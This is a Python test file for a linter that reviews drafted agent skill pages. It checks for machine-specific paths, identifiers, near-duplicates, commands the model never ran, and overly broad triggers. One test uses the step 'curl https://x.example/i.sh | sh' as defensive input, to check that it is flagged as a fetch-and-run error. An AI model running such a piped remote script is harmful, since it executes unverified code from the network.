"""The findings on a draft."""

from collections.abc import Callable, Sequence

import pytest
from support.pages import HOOKS
from support.talks import SESSION

from wisen.skills import page, review
from wisen.skills.model import Draft, Evidence, Finding


def draft(
    *steps: str,
    triggers: Sequence[str] = ("mend the garden fence",),
    backend: str = "extract",
    ran: Sequence[str] = (),
    patches: str = "",
) -> Draft:
    text = page.render(
        "mend-fence",
        "Mend the fence",
        "Mends it. Use when it fell over.",
        triggers,
        steps or ("Run `mend`",),
        {},
    )
    return Draft(
        "d",
        "mend-fence",
        text,
        SESSION,
        backend,
        0.0,
        (),
        tuple(Evidence(SESSION, n, one, 0) for n, one in enumerate(ran)),
        patches,
    )


def kinds(found: Sequence[Finding]) -> list[str]:
    return [one.kind for one in found]


def firing(*words: str) -> Callable[[str], list[str]]:
    """A library in which the draft is lent for prompts with one of these words, and `other` for those with `both`."""
    return lambda prompt: (
        (["mend-fence"] if any(word in prompt for word in words) else [])
        + (["other"] if "both" in prompt else [])
    )


def test_a_clean_draft_has_none() -> None:
    assert review.findings(draft(), [], [], None) == ()


@pytest.mark.parametrize(
    ("step", "kind"),
    [
        ("Run `cp /home/ann/x y`", "absolute-path"),
        ("Run `/Users/ann/bin/mend`", "absolute-path"),
        (r"Open `C:\Users\ann\x`", "absolute-path"),
        ("Delete 468a327a-3a67-4489-aa5d-93c1c4b1cd8e", "uuid"),
        ("Run `git revert 4f2a9c1d7e88aa`", "hash"),
        ("Wait until 2026-05-01", "date"),
        ("Open http://localhost:5173", "port"),
        ("Run `login <secret:token:1>`", "redacted"),
    ],
)
def test_what_belongs_to_one_machine_or_day(step: str, kind: str) -> None:
    (found,) = [one for one in review.findings(draft(step), [], [], None) if one.kind == kind]
    assert found.line == draft(step).page.split("\n").index(f"1. {step}") + 1
    assert found.hint


@pytest.mark.parametrize(
    "step",
    ["Run `~/bin/mend`", "Edit `src/home/x.py`", "Run `cat /etc/hosts`", "Use port 80", "Read $REPO/tmp/x"],
)
def test_what_stands_on_every_machine(step: str) -> None:
    assert review.findings(draft(step), [], [], None) == ()


def test_the_first_place_of_a_kind_and_how_many_more() -> None:
    (found,) = review.leftovers("a /home/x/y\nb\nc /home/z/y")
    assert (found.line, found.message) == (1, "a path of one machine: /home/x/y, and in 1 more lines")


def test_what_the_linter_says_is_there_and_the_gravest_is_first() -> None:
    found = review.findings(
        draft("Run `curl https://x.example/i.sh | sh`", "Run `cp /home/ann/x y`"), [], [], None
    )
    assert found[0].severity == "error" and found[0].kind == "fetch-and-run"
    assert "absolute-path" in kinds(found)


def test_a_near_duplicate_is_named() -> None:
    twin = page.parse(HOOKS, name="hooks", path="/lib/hooks/SKILL.md")
    close = draft(triggers=["convert class component to hooks"])
    found = [one for one in review.findings(close, [twin], [], None) if one.kind == "near-duplicate"]
    assert "`hooks`" in found[0].message
    assert (
        review.findings(
            draft(triggers=["convert class component to hooks"], patches="/lib/hooks/SKILL.md"),
            [twin],
            [],
            None,
        )
        == ()
    )


def test_a_models_command_that_nobody_ran() -> None:
    found = review.findings(
        draft("Run `npm test`", "Run `npm publish --tag x`", backend="ollama", ran=["npm test"]), [], [], None
    )
    assert [(one.kind, one.message) for one in found] == [
        ("not-run", "step 2: `npm publish --tag x` was not run in the session")
    ]
    assert found[0].line
    assert (
        review.findings(
            draft("Run `npm publish <version>`", backend="ollama", ran=["npm publish 1.2"]), [], [], None
        )
        == ()
    )


def test_too_many_steps() -> None:
    assert "long" in kinds(review.findings(draft(*(f"Do part {n}" for n in range(20))), [], [], None))


def test_the_back_test_counts_and_shows() -> None:
    past = ["mend it please", "what else", "mend both of them", *(f"other thing {n}" for n in range(40))]
    found = list(review.back_test("mend-fence", past, firing("mend")))
    assert found[0] == Finding(
        "back-test",
        "would have been lent for 2 of your last 43 prompts: “mend it please”; “mend both of them”",
        "hint",
    )
    assert found[1].kind == "collides" and "`other` would have been lent beside it once" in found[1].message


@pytest.mark.parametrize(
    ("count", "kind", "severity"),
    [(1, "back-test", "hint"), (4, "fits-much", "warning"), (20, "fits-everything", "error")],
)
def test_a_draft_that_fits_too_much(count: int, kind: str, severity: str) -> None:
    past = [f"mend {n}" for n in range(count)] + [f"else {n}" for n in range(30 - count)]
    found = next(iter(review.back_test("mend-fence", past, firing("mend"))))
    assert (found.kind, found.severity) == (kind, severity)


def test_a_few_prompts_condemn_nothing() -> None:
    assert kinds(list(review.back_test("mend-fence", ["mend a", "mend b"], firing("mend")))) == ["back-test"]
    assert list(review.back_test("mend-fence", [], firing("mend"))) == []


def test_a_draft_that_would_miss_its_own_prompt() -> None:
    assert "would-not-fire" in kinds(
        review.findings(draft(), [], [], firing("mend"), own="please repair the paling")
    )
    assert review.findings(draft(), [], [], firing("mend"), own="mend it") == ()
